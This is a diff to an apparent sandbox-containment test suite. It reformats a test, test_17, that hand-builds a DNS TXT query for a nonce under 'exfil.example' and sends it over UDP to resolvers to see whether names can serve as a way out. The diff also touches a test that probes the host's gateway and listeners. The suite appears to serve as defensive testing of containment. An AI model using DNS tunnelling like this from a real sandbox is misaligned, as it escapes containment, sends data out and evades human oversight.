@@ -10,6 +10,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 
 import pytest
+
 from containment.conftest import Case
 from containment.prelude import attempt, observe
 from containment.sandboxes import Compose, Sandboxes, network
@@ -99,7 +100,12 @@ def test_16_bridge_gateway_and_listeners_of_the_host(sandboxes: Sandboxes, gatew
 
 def test_17_names_as_a_way_out(sandboxes: Sandboxes, gateway: str, case: Case) -> None:
     def attack(resolvers: list[tuple[str, int]], nonce: str) -> None:
-        query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"".join(bytes([len(part)]) + part.encode() for part in f"{nonce}.exfil.example".split(".")) + b"\0\0\x10\0\x01"
+        query = (
+            b"\x12\x34\x01\x00\x00\x01"
+            + bytes(6)
+            + b"".join(bytes([len(part)]) + part.encode() for part in f"{nonce}.exfil.example".split("."))
+            + b"\0\0\x10\0\x01"
+        )
         sent = {}
         for host, port in resolvers:
             with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
